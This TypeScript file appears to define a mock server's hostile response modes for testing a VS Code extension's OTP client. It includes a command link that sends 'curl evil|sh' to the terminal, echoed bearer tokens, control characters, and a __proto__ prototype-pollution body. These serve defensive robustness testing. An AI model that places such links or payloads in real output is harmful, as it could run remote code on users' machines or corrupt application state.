/**
 * The mock's hostile-server modes: while one is set (`MockServer.setHostile`, or `POST /__mock/hostile?mode=…`), the
 * authorised calls it applies to are answered with what a compromised or broken D7 could send — an otp_id that is a
 * command link, the caller's own token echoed back, a status or detail made to render as a link, numbers that make
 * timers spin, bodies that are too deep, too wide or carry `__proto__`. Node built-ins only.
 */

/** Which call a mode answers. */
export type HostileOperation = 'status' | 'send' | 'resend' | 'verify';

/** What a mode sends. `raw` is sent as the body text as it is (for JSON no serialiser would write). */
export interface HostileAnswer {
  status: number;
  json?: unknown;
  raw?: string;
  headers?: Record<string, string>;
}

export interface HostileContext {
  operation: HostileOperation;
  /** The otp_id the call named (send: none). */
  otpId?: string;
  /** The bearer token the call carried (what an echo sends back). */
  token: string;
  /** A fresh UUID, for answers that need a well-formed id. */
  newId: string;
  /** Other secrets the echo modes send back too (another profile's token, say). */
  alsoEcho: readonly string[];
}

/** A link VS Code's notifications would render, and run when clicked. */
export const COMMAND_LINK = '[Show](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const CONTROLS = '\u202e\u2028\u0007\u001b[31m';

function nested(depth: number): string {
  return `${'{"a":'.repeat(depth)}"bottom"${'}'.repeat(depth)}`;
}

/** Every mode, by name. Each answers the operations it names; a call it does not name is answered as usual. */
export const HOSTILE_MODES = {
  /** Send/Resend name an otp_id that is a command link. */
  linkOtpId: { operations: ['send', 'resend'], answer: () => ({ status: 200, json: { otp_id: COMMAND_LINK, status: 'OPEN', expiry: 600 } }) },
  /** Send names a 100 000-character otp_id. */
  longOtpId: { operations: ['send', 'resend'], answer: () => ({ status: 200, json: { otp_id: 'x'.repeat(100_000), status: 'OPEN', expiry: 600 } }) },
  /** Send names an otp_id that is not text. */
  numberOtpId: { operations: ['send', 'resend'], answer: () => ({ status: 200, json: { otp_id: 12345, status: 'OPEN', expiry: 600 } }) },
  /** Send answers without an otp_id. */
  missingOtpId: { operations: ['send'], answer: () => ({ status: 200, json: { status: 'OPEN', expiry: 600 } }) },
  /** Every answer echoes the bearer token in a field, and a refusal quotes it in its detail. */
  echoToken: {
    operations: ['status', 'send', 'resend', 'verify'],
    answer: (c: HostileContext) =>
      c.operation === 'verify'
        ? { status: 400, json: { detail: { code: 'INVALID_OTP_CODE', message: `code rejected for Bearer ${c.token}` } } }
        : {
            status: 200,
            json: { otp_id: c.otpId ?? c.newId, status: 'OPEN', expiry: 600, debug: { authorization: `Bearer ${c.token}`, raw: c.token, also: c.alsoEcho } },
          },
  },
  /** The token echoed in a 401's detail and in the reason phrase. */
  echoTokenRejected: {
    operations: ['status', 'send', 'resend', 'verify'],
    answer: (c: HostileContext) => ({
      status: 401,
      json: { detail: { code: 'ACCESS_TOKEN_REJECTED', message: `token ${[c.token, ...c.alsoEcho].join(' or ')} is not valid` } },
    }),
  },
  /** A status and a detail made to render as a link, with controls and line separators. */
  linkText: {
    operations: ['status', 'send', 'resend', 'verify'],
    answer: (c: HostileContext) =>
      c.operation === 'resend' || c.operation === 'verify'
        ? { status: 400, json: { detail: { code: `${COMMAND_LINK}${CONTROLS}`, message: `Refused ${COMMAND_LINK} \n\n$(alert) ${CONTROLS}` } } }
        : { status: 200, json: { otp_id: c.otpId ?? c.newId, status: `${COMMAND_LINK}$(alert)${CONTROLS}`, expiry: 600 } },
  },
  /** An expiry and a Retry-After that would overflow a timer (Node runs a delay over 2^31 - 1 ms after 1 ms). */
  hugeNumbers: {
    operations: ['status', 'send', 'resend'],
    answer: (c: HostileContext) =>
      c.operation === 'status'
        ? { status: 429, json: { detail: 'slow down' }, headers: { 'retry-after': '99999999999' } }
        : { status: 200, json: { otp_id: c.otpId ?? c.newId, status: 'OPEN', expiry: 1e20 } },
  },
  /** A body nested 20 000 levels deep (JSON.parse takes it; a naive recursive walk does not). */
  deepBody: { operations: ['status', 'send', 'verify'], answer: () => ({ status: 200, raw: `{"status":"OPEN","otp_id":"%ID%","deep":${nested(20_000)}}` }) },
  /** A body whose key `__proto__` would replace the prototype of an object built by assignment. */
  protoBody: {
    operations: ['status', 'send', 'verify'],
    answer: () => ({
      status: 200,
      raw: '{"__proto__":{"polluted":true,"status":"HACKED"},"status":"OPEN","otp_id":"%ID%","constructor":{"prototype":{"polluted":true}}}',
    }),
  },
  /** A 422 with 10 000 long issues (about 1 MB). */
  manyIssues: {
    operations: ['status', 'send', 'resend', 'verify'],
    answer: () => ({
      status: 422,
      json: {
        detail: Array.from({ length: 10_000 }, (_, i) => ({
          loc: ['body', `field_${i}_${'x'.repeat(40)}`],
          msg: `${'m'.repeat(80)} ${COMMAND_LINK}`,
          type: 'value_error',
        })),
      },
    }),
  },
  /** Body keys that collide with the rows the tree adds (an `error` beside the error row, `x/y` beside `x: {y}`). */
  collidingKeys: {
    operations: ['status', 'send', 'resend', 'verify'],
    answer: () => ({
      status: 400,
      json: {
        detail: [
          { loc: ['body', 'otp_id'], msg: 'one', type: 't' },
          { loc: ['body', 'otp_id'], msg: 'two', type: 't' },
        ],
        error: 'a body field named error',
        kind: 'k',
        'x/y': 1,
        x: { y: 2 },
      },
    }),
  },
} satisfies Record<string, { operations: readonly HostileOperation[]; answer: (c: HostileContext) => HostileAnswer }>;

export type HostileMode = keyof typeof HOSTILE_MODES;

/** The answer of `mode` for this call, or undefined when the mode leaves the call alone. */
export function hostileAnswer(mode: HostileMode, context: HostileContext): HostileAnswer | undefined {
  const entry: { operations: readonly HostileOperation[]; answer: (c: HostileContext) => HostileAnswer } = HOSTILE_MODES[mode];
  if (!entry.operations.includes(context.operation)) return undefined;
  const answer = entry.answer(context);
  return answer.raw === undefined ? answer : { ...answer, raw: answer.raw.replace('%ID%', context.otpId ?? context.newId) };
}
